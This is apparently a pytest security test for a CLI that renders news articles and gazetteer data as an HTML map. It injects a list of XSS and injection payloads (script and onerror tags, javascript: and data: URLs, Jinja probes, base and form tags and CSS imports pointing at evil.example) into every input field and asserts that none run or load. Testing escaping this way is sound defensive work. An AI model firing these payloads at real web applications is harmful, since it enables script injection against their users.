"""What others write (articles, gazetteers, notes) is shown as text: nothing of it runs, and nothing is asked for."""

import json

import pytest

from geonews.cli import main

# ruff: noqa: E501 -- an attack stands on a line
ATTACKS = {
    "image": "<img src=https://evil.example/a.png onerror=\"window.__pwned='image'\">",
    "script": "</script><script>window.__pwned='script'</script><script src=https://evil.example/b.js></script>",
    "comment": "<!--<script>window.__pwned='comment'",
    "template": "${window.__pwned='template'}",
    "tick": "`+(window.__pwned='tick')+`",
    "hex": "\\x3cimg src=x onerror=window.__pwned='hex'\\x3e \\u003csvg onload=window.__pwned='hex'\\u003e",
    "quote": "\"');window.__pwned='quote';//",
    "attribute": '" onmouseover="window.__pwned=\'attribute\'" autofocus onfocus="window.__pwned=\'focus\'" x="',
    "svg": "<svg onload=\"window.__pwned='svg'\"><animate onbegin=window.__pwned='animate'></svg>",
    "style": "</style><style>@import 'https://evil.example/c.css'; * { background: url(https://evil.example/d) }</style>",
    "frame": "<iframe src=\"javascript:parent.__pwned='frame'\"></iframe><meta http-equiv=refresh content=0;url=//evil>",
    "base": "<base href=https://evil.example/><form action=https://evil.example/><object data=https://evil.example/e>",
    "entity": "&lt;img src=x onerror=window.__pwned='entity'&gt;&#60;script&#62;",
    "jinja": "{{7*7}}{% raw %}{# x {{ cycler.__init__.__globals__ }}",
    "line": "\u2028window.__pwned='line'\u2029",
    "prototype": "__proto__",
}
URLS = (
    "javascript:window.__pwned='url'",
    " JaVaScRiPt:window.__pwned='url'",
    "java\nscript:window.__pwned='url'",
    "data:text/html,<script>window.__pwned='url'</script>",
    "vbscript:window.__pwned=1",
    "blob:https://evil.example/1",
    "//evil.example/f",
    "https://evil.example/\"onclick=\"window.__pwned='url'",
)

TRY_ALL = """
  for (const details of document.querySelectorAll("details")) details.open = true;
  const cards = [];
  for (const index of geonews.state.content.places.keys()) {
    geonews.state.open(index);
    cards.push(document.querySelector(".leaflet-popup-pane").innerText);
  }
  for (const element of document.querySelectorAll("*")) {
    for (const type of ["mouseover", "focus"]) element.dispatchEvent(new Event(type, { bubbles: true }));
  }
  const links = Array.from(document.links).filter((link) => !link.closest(".leaflet-bar, .leaflet-control-layers")
    && !link.classList.contains("leaflet-popup-close-button"));
  for (const link of links) {
    link.removeAttribute("target");
    link.addEventListener("click", (event) => event.preventDefault());
    link.click();
  }
  return {
    cards, header: document.querySelector(".gn-header").innerText,
    schemes: [...new Set(links.map((link) => new URL(link.href).protocol))],
    foreign: document.querySelectorAll("img, iframe, object, base, form, meta[http-equiv=refresh]").length,
    scripts: document.scripts.length, styles: document.querySelectorAll("style").length,
    handlers: document.querySelectorAll("[onerror], [onload], [onmouseover], [onfocus], [onclick], [onbegin]").length,
  };
"""


COLUMNS = "id kind feature_code country admin1 lat lon radius_km name_ar name_en variants_ar variants_en weak source"


def write_articles(path, attack: str, url: str) -> None:
    """Write an article whose every field attacks, and one without places."""
    article = {
        "id": f"a{attack}",
        "title": f"{attack} في دمشق {attack}",
        "text": f"{attack} قرب بلدة زعفرانتان وقرية فلفلانتان ثم دمشق {attack}",
        "published": attack,
        "url": url,
        "source": attack,
    }
    path.write_text("".join(f"{json.dumps(one)}\n" for one in (article, {"text": attack})), encoding="utf-8")


def write_overrides(path, attack: str) -> None:
    """Write a place of a user's own whose note attacks."""
    cells = {"action": "add_place", "name": "زعفرانتان", "id": "own:1", "kind": "town"}
    point = {"type": "Point", "coordinates": [40.0, 34.0]}
    feature = {"type": "Feature", "geometry": point, "properties": {**cells, "note": attack}}
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), encoding="utf-8")


def write_gazetteer(folder, attack: str) -> None:
    """Write a table of one place whose English name attacks."""
    name = " ".join(attack.split())  # a row is a line
    row = ["own:2", "village", "P.PPL", "SY", "", "34.5", "40.5", "1", "فلفلانتان", name, "", "", "", "survey"]
    folder.mkdir(parents=True)
    lines = ("\t".join(cells) for cells in (COLUMNS.split(), row))
    (folder / "own.tsv").write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")


def page_of(folder, attack: str, url: str) -> str:
    """Return the map of an article, an own gazetteer and overrides that attack, made as a user makes it."""
    write_articles(folder / "news.jsonl", attack, url)
    write_overrides(folder / "mine.geojson", attack)
    write_gazetteer(folder / "own/places", attack)
    index, out = folder / "index", folder / "map.html"
    assert main(["gazetteer", "build", str(folder / "own"), "-o", str(index), "-q"]) == 0
    options = ["--gazetteer", str(index), "--overrides", str(folder / "mine.geojson"), "--lang", "ar", "-q"]
    assert main(["map", str(folder / "news.jsonl"), "-o", str(out), *options]) == 0
    return out.read_text(encoding="utf-8")


@pytest.fixture
def benign(tmp_path, browse):
    """What a page has that nobody attacks."""
    (tmp_path / "benign").mkdir()
    return browse(page_of(tmp_path / "benign", "nothing", "https://example.org/"), TRY_ALL)


@pytest.mark.slow
def test_no_attack_runs_or_asks_for_anything(browse, benign, tmp_path):
    for number, (name, attack) in enumerate(ATTACKS.items()):
        folder = tmp_path / name
        folder.mkdir()
        found = browse(page_of(folder, attack, URLS[number % len(URLS)]), TRY_ALL)
        assert (found["foreign"], found["handlers"]) == (0, 0), name
        assert (found["scripts"], found["styles"]) == (benign["scripts"], benign["styles"]), name
        assert set(found["schemes"]) <= {"https:"}, name
        assert len(found["cards"]) == len(benign["cards"]) == 3, name
        assert all(" ".join(attack.split()) in " ".join(card.split()) for card in found["cards"]), name


def test_a_script_that_came_in_all_the_same_would_not_run(visit, leaflet, tmp_path):
    (tmp_path / "x").mkdir()
    html = page_of(tmp_path / "x", "nothing", "https://example.org/")
    attacks = ATTACKS["script"] + ATTACKS["image"] + ATTACKS["svg"] + ATTACKS["style"]
    seen = visit(html.replace("</body>", attacks + "</body>"))
    assert (seen.pwned, seen.requests) == (None, [])
    assert {address.rpartition("/")[2] for address in seen.stopped} == {"a.png", "b.js", "c.css", "d"}
    assert any("Content Security Policy" in error for error in seen.errors)
